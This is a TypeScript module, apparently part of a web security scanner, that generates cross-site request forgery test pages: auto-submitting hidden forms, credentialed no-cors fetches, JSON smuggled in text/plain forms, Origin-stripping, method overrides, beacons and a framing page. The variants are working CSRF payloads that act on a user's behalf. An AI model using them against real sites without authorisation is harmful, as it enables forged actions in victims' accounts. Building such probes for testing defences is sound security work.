import type { ProbeRequest } from '../../client/types.js'

/** One way in which a page of another site sends a request with its visitor's cookies. */
export type Forgery = {
  /** in words: `a form as text/plain` */
  readonly way: string
  /** the page that does it */
  readonly html: string
  /** one of the few that are tried with every write, not only with the first */
  readonly telling?: boolean
}

const ESCAPES: Readonly<Record<string, string>> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' }

/** Text for an attribute or the body of a page. */
export const escapeHtml = (text: string): string => text.replaceAll(/[&<>"']/g, (char) => ESCAPES[char] ?? char)

/** A value for a script within a page. */
const inScript = (value: unknown): string => JSON.stringify(value).replaceAll('<', '\\u003c')

const page = (body: string): string => `<!doctype html><meta charset="utf-8"><title>wait</title><body>${body}</body>`

const formOf = (
  url: string,
  fields: Readonly<Record<string, string>>,
  options: { readonly type?: string; readonly target?: string } = {},
): string => {
  const inputs = Object.entries(fields).map(
    ([name, value]) => `<input type="hidden" name="${escapeHtml(name)}" value="${escapeHtml(value)}">`,
  )
  const type = options.type === undefined ? '' : ` enctype="${options.type}"`
  const target = options.target === undefined ? '' : ` target="${options.target}"`
  // submit() of the prototype: a field may be called "submit"
  return `<form id="f" method="post" action="${escapeHtml(url)}"${type}${target}>${inputs.join('')}</form><script>HTMLFormElement.prototype.submit.call(document.getElementById('f'))</script>`
}

/** For a frame: its second document is the target's answer. What a frame asks for is not always seen from outside, so the page says so itself. */
const SECOND_LOAD = `onload="this.n=(this.n||0)+1;if(this.n>1)document.title='done'"`

/** Sends by script and says when it is over, whatever came of it. */
const fetching = (url: string, init: string): string =>
  page(`<script>fetch(${inScript(url)}, ${init}).catch(() => {}).finally(() => { document.title = 'done' })</script>`)

/** JSON as the only field of a `text/plain` form: the `=` between its name and its value lands within a text of the JSON. */
const smuggled = (json: string): Readonly<Record<string, string>> => {
  if (json.endsWith('"}') && !json.endsWith('\\"}')) return { [json.slice(0, -2)]: '"}' }
  return json.endsWith('}') && json !== '{}' ? { [`${json.slice(0, -1)},"parapet":"`]: '"}' } : { '{"parapet":"': '"}' }
}

const flat = (value: unknown): Readonly<Record<string, string>> =>
  typeof value === 'object' && value !== null && !Array.isArray(value)
    ? Object.fromEntries(Object.entries(value).map(([key, one]) => [key, typeof one === 'string' ? one : JSON.stringify(one)]))
    : {}

const overridden = (url: string, method: string): string => `${url}${url.includes('?') ? '&' : '?'}_method=${method}`

/** What browsers send across sites without asking first. Source: Fetch, section 3.2, CORS protocol. */
const SIMPLE_METHODS: ReadonlySet<string> = new Set(['GET', 'POST'])

/**
 * The ways to forge a form's request. `make` gives the same request with another marker for each way, so that what acted tells which did.
 */
export const formForgeries = (origin: string, make: (way: number) => ProbeRequest): readonly Forgery[] => {
  const drafts: readonly ((request: ProbeRequest) => Forgery)[] = [
    ({ path, form = {} }) => ({ way: 'a form', telling: true, html: page(formOf(origin + path, form)) }),
    ({ path, form = {} }) => ({
      way: 'a form as multipart/form-data',
      html: page(formOf(origin + path, form, { type: 'multipart/form-data' })),
    }),
    ({ path, form = {} }) => ({ way: 'a form as text/plain', html: page(formOf(origin + path, form, { type: 'text/plain' })) }),
    ({ path, form = {} }) => ({
      way: 'a form in a hidden frame',
      html: page(`<iframe name="t" hidden ${SECOND_LOAD}></iframe>${formOf(origin + path, form, { target: 't' })}`),
    }),
    ({ path, form = {} }) => ({
      // who hides where he comes from hides his origin too. Source: Fetch, section 3.1, Origin header
      way: 'a form with Origin: null',
      html: page(`<meta name="referrer" content="no-referrer">${formOf(origin + path, form)}`),
    }),
    ({ path, form = {} }) => ({
      way: 'fetch without CORS',
      telling: true,
      html: fetching(
        origin + path,
        `{ method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams(${inScript(form)}) }`,
      ),
    }),
    ({ path, form = {} }) => ({
      way: 'fetch without a Content-Type',
      html: fetching(
        origin + path,
        `{ method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([${inScript(new URLSearchParams(form).toString())}]) }`,
      ),
    }),
    ({ path, form = {}, method = 'POST' }) => ({
      way: SIMPLE_METHODS.has(method) ? 'a form that overrides its method' : `a form that overrides its method with ${method}`,
      html: page(formOf(overridden(origin + path, method), { ...form, _method: method })),
    }),
  ]
  return drafts.map((draft, way) => draft(make(way)))
}

/** The ways to forge a request of JSON. */
export const jsonForgeries = (origin: string, make: (way: number) => ProbeRequest): readonly Forgery[] => {
  const sent = (url: string, body: string, more: string): string =>
    fetching(url, `{ method: 'POST', mode: 'no-cors', credentials: 'include', body: ${body}${more} }`)
  const text = (json: unknown): string => inScript(JSON.stringify(json))
  const drafts: readonly ((request: ProbeRequest) => Forgery)[] = [
    ({ path, json }) => ({
      way: 'JSON as a text/plain form',
      telling: true,
      html: page(formOf(origin + path, smuggled(JSON.stringify(json)), { type: 'text/plain' })),
    }),
    ({ path, json }) => ({
      way: 'JSON as text/plain by fetch',
      telling: true,
      html: sent(origin + path, text(json), `, headers: { 'content-type': 'text/plain' }`),
    }),
    ({ path, json }) => ({
      way: 'JSON as text/plain that mentions JSON',
      html: sent(origin + path, text(json), `, headers: { 'content-type': 'text/plain; x=application/json' }`),
    }),
    ({ path, json }) => ({ way: 'JSON without a Content-Type', html: sent(origin + path, `new Blob([${text(json)}])`, '') }),
    ({ path, json }) => ({
      way: 'JSON as a form by fetch',
      html: sent(origin + path, text(json), `, headers: { 'content-type': 'application/x-www-form-urlencoded' }`),
    }),
    ({ path, json }) => ({ way: 'its fields as a form', html: page(formOf(origin + path, flat(json))) }),
    ({ path, json }) => ({
      way: 'a beacon',
      html: page(
        `<script>navigator.sendBeacon(${inScript(origin + path)}, ${text(json)}); setTimeout(() => { document.title = 'done' }, 400)</script>`,
      ),
    }),
    ({ path, json, method = 'POST' }) => ({
      way: 'JSON by fetch, after asking',
      html: fetching(
        origin + path,
        `{ method: ${inScript(method)}, mode: 'cors', credentials: 'include', headers: { 'content-type': 'application/json' }, body: ${text(json)} }`,
      ),
    }),
    ({ path, json, method = 'POST' }) => ({
      way: 'JSON as text/plain that overrides its method',
      html: sent(overridden(origin + path, method), text(json), `, headers: { 'content-type': 'text/plain' }`),
    }),
  ]
  return drafts.map((draft, way) => draft(make(way)))
}

/** A page that shows another one in a frame, and does not let it break out. */
export const framingPage = (url: string): string =>
  page(
    `<iframe name="framed" width="800" height="600" sandbox="allow-scripts allow-forms allow-same-origin" src="${escapeHtml(url)}"></iframe>`,
  )
